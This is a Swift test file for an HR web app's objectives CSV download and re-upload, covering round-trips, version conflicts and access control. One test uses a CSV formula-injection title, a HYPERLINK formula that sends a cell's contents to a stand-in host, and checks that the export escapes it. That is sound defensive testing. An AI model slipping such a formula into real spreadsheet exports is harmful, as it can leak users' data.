import HummingbirdTesting
import SIPAVTestSupport
import Testing
@testable import SIPAVWeb

@Suite("HR downloads the year's objectives.csv, to change and upload again")
struct ObjectivesDownloadTests {
    /// The file holds every objective with its weight and ratings, as `sipav db export` writes it, and the objectives
    /// page takes it back as it is: an upload refused for lacking ratings can be mended from it.
    @Test func theDownloadedFileIsTheYearsObjectivesAndUploadsBackUnchanged() async throws {
        try await withWebApp { browser, database in
            try database.withConnection { db in
                _ = try db.execute("UPDATE individual_objectives SET cosa = 5, come = 'A', version = version + 1 WHERE employee_id = 'E1' AND code = 'OB1'")
                // Positions from 0, as an import and an upload number them (the fixture's start from 1).
                _ = try db.execute("UPDATE individual_objectives SET position = position - 1")
            }
            let (hr, csrf) = try await HRPagesFixture.loggedIn("hr", on: browser.client)
            let page = try await hr.get("/hr/obiettivi?anno=2024")
            #expect(page.text.contains("href=\"/hr/scarica/objectives.csv?anno=2024\" download>scarica objectives.csv</a>"))
            #expect(try await hr.get("/hr/scarica?anno=2024").text.contains("href=\"/hr/scarica/objectives.csv?anno=2024\""))

            let file = try await hr.get("/hr/scarica/objectives.csv?anno=2024")
            #expect(file.status == .ok)
            #expect(file.headers[.contentDisposition] == "attachment; filename=\"sipav-2024-objectives.csv\"")
            #expect(file.text == "\u{FEFF}employee_id;objective;title;weight;cosa;come;version;year\n"
                    + "E1;OB1;Ridurre i tempi di risposta;60;5;A;2;2024\nE1;OB2;Digitalizzare l'archivio;40;;;1;2024\n"
                    + "E2;OB1;Bilancio sociale;100;;;1;2024\n",
                    "\(file.text)")

            let uploaded = try await HRPagesFixture.upload(Array(file.text.utf8), filename: "objectives.csv", to: "/hr/obiettivi/importa",
                                                           csrf: csrf, fields: [("anno", "2024")], with: hr)
            #expect(uploaded.status == .seeOther, "\(uploaded.text)")
            // Nothing changed, not even a version: a manager's page open meanwhile stays current, and the log has no line.
            #expect(try storedRatings(database, of: "E1") == ["OB1:5A:v2", "OB2:--:v1"])
            #expect(try storedRatings(database, of: "E2") == ["OB1:--:v1"])
            let updates = try database.withConnection { db in
                try db.execute("SELECT count(*) AS n FROM audit_log WHERE table_name = 'individual_objectives' AND actor = 'hr'")[0].int("n")
            }
            #expect(updates == 0)
        }
    }

    /// A title a spreadsheet would run as a formula (Italian Excel evaluates `=HYPERLINK(…;…)`) is written with an
    /// apostrophe in front, which shows it as text; uploaded back, the apostrophe comes off and the title is as it was,
    /// as is one that truly starts with an apostrophe: nothing changes, not even a version.
    @Test func aTitleThatWouldStartAFormulaIsWrittenAsTextAndUploadsBackUnchanged() async throws {
        try await withWebApp { browser, database in
            let formula = "=HYPERLINK(\"http://x/?\"&A1;\"Clicca\")"
            try database.withConnection { db in
                _ = try db.execute("UPDATE individual_objectives SET title = $1 WHERE employee_id = 'E1' AND code = 'OB1'", [formula])
                _ = try db.execute("UPDATE individual_objectives SET title = $1 WHERE employee_id = 'E1' AND code = 'OB2'", ["'-2 giorni"])
                _ = try db.execute("UPDATE individual_objectives SET position = position - 1")
            }
            let (hr, csrf) = try await HRPagesFixture.loggedIn("hr", on: browser.client)
            let file = try await hr.get("/hr/scarica/objectives.csv?anno=2024")
            #expect(file.text.contains("\nE1;OB1;\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"Clicca\"\")\";60;;;1;2024\n"), "\(file.text)")
            #expect(file.text.contains("\nE1;OB2;''-2 giorni;40;;;1;2024\n"), "\(file.text)")
            let uploaded = try await HRPagesFixture.upload(Array(file.text.utf8), filename: "objectives.csv", to: "/hr/obiettivi/importa",
                                                           csrf: csrf, fields: [("anno", "2024")], with: hr)
            #expect(uploaded.status == .seeOther, "\(uploaded.text)")
            let titles = try database.withConnection { db in
                try db.execute("SELECT title || ':v' || version AS t FROM individual_objectives WHERE employee_id = 'E1' ORDER BY position")
                    .map { try $0.string("t") }
            }
            #expect(titles == [formula + ":v1", "'-2 giorni:v1"])
        }
    }

    /// An upload that only moves an objective in its person's list keeps its version, as a re-import does: a manager's
    /// form open on it is not out of date.
    @Test func anObjectiveOnlyMovedKeepsItsVersion() async throws {
        try await withWebApp { browser, database in
            let (hr, csrf) = try await HRPagesFixture.loggedIn("hr", on: browser.client)
            let file = "employee_id;objective;title;weight;cosa;come\nE1;OB2;Digitalizzare l'archivio;40;;\nE1;OB1;Ridurre i tempi di risposta;60;;\n"
            let uploaded = try await HRPagesFixture.upload(Array(file.utf8), filename: "objectives.csv", to: "/hr/obiettivi/importa",
                                                           csrf: csrf, fields: [("anno", "2024")], with: hr)
            #expect(uploaded.status == .seeOther, "\(uploaded.text)")
            #expect(try storedRatings(database, of: "E1") == ["OB2:--:v1", "OB1:--:v1"])
        }
    }

    /// HR downloads the file; a manager then rates E1; HR changes a title in the file (another person's) and uploads it.
    /// The file's rows of E1 are those of before the ratings: refused, naming E1, nothing written. A row the file repeats
    /// as it now is passes whatever its version, and a file without versions (written elsewhere) is read as before.
    @Test func anUploadDownloadedBeforeAManagerRatedIsRefused() async throws {
        try await withWebApp { browser, database in
            let (hr, csrf) = try await HRPagesFixture.loggedIn("hr", on: browser.client)
            let downloaded = try await hr.get("/hr/scarica/objectives.csv?anno=2024").text
            #expect(downloaded.contains("E1;OB1;Ridurre i tempi di risposta;60;;;1;2024\n"), "\(downloaded)")
            try database.withConnection { db in
                // As the manager's save does: both objectives rated, each version moved on.
                _ = try db.execute("UPDATE individual_objectives SET cosa = 5, come = 'A', version = version + 1 WHERE employee_id = 'E1'")
            }
            let edited = downloaded.replacingOccurrences(of: "Bilancio sociale", with: "Bilancio sociale e di genere")
            func upload(_ text: String) async throws -> TestResponse {
                try await HRPagesFixture.upload(Array(text.utf8), filename: "objectives.csv", to: "/hr/obiettivi/importa",
                                                csrf: csrf, fields: [("anno", "2024")], with: hr)
            }
            let refused = try await upload(edited)
            #expect(refused.status == .conflict, "\(refused.text)")
            #expect(refused.text.contains("dopo che è stato scaricato, gli obiettivi o le valutazioni di questa persona sono cambiati"),
                    "\(refused.text)")
            #expect(refused.text.contains("E1 (2)"), "\(refused.text)")
            #expect(try storedRatings(database, of: "E1") == ["OB1:5A:v2", "OB2:5A:v2"])
            let title = { try database.withConnection { try $0.execute("SELECT title FROM individual_objectives WHERE employee_id = 'E2'")[0].string("title") } }
            #expect(try title() == "Bilancio sociale")

            // E1's rows as they now are, with the old versions: nothing of E1 would change, so the file passes.
            let current = edited.replacingOccurrences(of: "60;;;1", with: "60;5;A;1").replacingOccurrences(of: "40;;;1", with: "40;5;A;1")
            let taken = try await upload(current)
            #expect(taken.status == .seeOther, "\(taken.text)")
            #expect(try title() == "Bilancio sociale e di genere")
            #expect(try storedRatings(database, of: "E1") == ["OB1:5A:v2", "OB2:5A:v2"])

            // A version that is no whole number is a fault of its row.
            let garbled = try await upload(current.replacingOccurrences(of: "60;5;A;1", with: "60;5;A;uno"))
            #expect(garbled.status == .unprocessableContent, "\(garbled.text)")
            #expect(garbled.text.contains("version"), "\(garbled.text)")
        }
    }

    @Test(arguments: ["m1", "sg"])
    func onlyHRDownloadsIt(username: String) async throws {
        try await withWebApp { browser, _ in
            _ = try await browser.login(username)
            #expect(try await browser.get("/hr/scarica/objectives.csv?anno=2024").status == .forbidden)
        }
    }
}
